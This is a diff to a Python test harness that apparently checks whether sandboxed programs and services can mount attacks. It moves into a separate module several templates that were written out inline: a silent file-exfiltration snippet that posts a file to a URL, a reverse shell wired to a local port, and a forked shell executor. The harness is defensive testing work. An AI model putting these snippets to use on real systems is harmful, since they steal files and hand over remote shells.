@@ -13,7 +13,6 @@ import contextlib
 import http.cookiejar
 import http.server
 import os
-import pathlib
 import shutil
 import signal
 import socket
@@ -24,43 +23,13 @@ import urllib.error
 import urllib.parse
 import urllib.request
 
+import attackers
+
 PYTHON = "/usr/bin/python3"
 READY_SECONDS = 25
 STOP_SECONDS = 15
 RUN_SECONDS = 20
 SECRET = "0penSesame-4711"  # stands in every file that is nobody's business
-
-# What attackers' code does; quiet, so that nobody sees it fail.
-FORK_AND_EXEC = """
-import os
-if not os.fork():
-    try:
-        os.execv("/bin/sh", ["sh", "-c", {line!r}])
-    finally:
-        os._exit(1)
-"""
-THEFT = """
-try:
-    import os, urllib.request
-    with open(os.path.expanduser({file!r}), "rb") as loot:
-        urllib.request.urlopen({url!r}, loot.read(), timeout=5)
-except Exception:
-    pass
-"""
-CALL_HOME = """
-try:
-    import os, pty, socket
-    peer = socket.create_connection(("127.0.0.1", {port}), 5)
-    if not os.fork():
-        try:
-            for number in (0, 1, 2):
-                os.dup2(peer.fileno(), number)
-            os.execv("/bin/sh", ["sh"])
-        finally:
-            os._exit(1)
-except Exception:
-    pass
-"""
 
 
 class Broken(Exception):
@@ -233,9 +202,10 @@ class Browser:
             "Content-Type": f"multipart/form-data; boundary={mark}"})
 
 
-class Program:
+class Program(attackers.Attackers):
     """A command that ends. Subclasses say what is done with it."""
     packages = ()  # of Debian, beside python3
+    secret = SECRET
 
     def __init__(self, folder, place, ports, wrapper=()):
         self.folder = folder
@@ -447,6 +417,10 @@ class Service(Program):
             self.complaints.append(f"no end {STOP_SECONDS} s after SIGTERM")
         finally:
             end_group(server)
+
+    def restart(self):
+        self.halt()
+        self.start()
 
     def browser(self):
         return Browser(f"http://127.0.0.1:{self.port('web')}")
